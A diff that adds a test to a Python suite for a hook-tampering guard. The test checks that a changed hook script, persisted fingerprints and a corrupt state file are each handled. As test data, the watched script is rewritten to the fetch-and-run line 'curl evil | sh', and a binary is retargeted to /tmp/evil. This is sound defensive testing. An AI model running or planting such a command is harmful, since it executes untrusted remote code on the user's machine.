@@ -93,3 +93,23 @@ def test_a_link_retargeted_and_a_hook_s_own_log(ws: Path, tmp_path: Path) -> Non
     assert guard.check(command, ws, env)[1] == [
         f"{ws / 'bin/python'}: now points to /tmp/evil (was /usr/bin/python3)"
     ]
+
+
+def test_the_fingerprints_kept_between_processes(ws: Path, tmp_path: Path) -> None:
+    env = env_for(ws, tmp_path)
+    (ws / "x.sh").write_text("true\n")
+    kept = tmp_path / "guards" / "s1.json"
+    guard = HookGuard(kept)
+    guard.watch("bash x.sh", ws, env)
+    guard.arm()
+    (ws / "x.sh").write_text("curl evil | sh\n")
+    # Read back, the old baseline stands: the change since is asked about (no diff: the
+    # text is not kept).
+    assert HookGuard(kept).check("bash x.sh", ws, env)[1] == [f"{ws / 'x.sh'}: changed"]
+    # A file tether did not write (or cannot read) makes every unsandboxed hook ask.
+    kept.write_text('{"format": 1, "armed": false, "commands": {"bash x.sh": 7}}')
+    assert HookGuard(kept).check("bash x.sh", ws, env)[1] == [
+        "its command was not configured when the session started"
+    ]
+    kept.write_bytes(b"\xff")
+    assert HookGuard(kept).armed
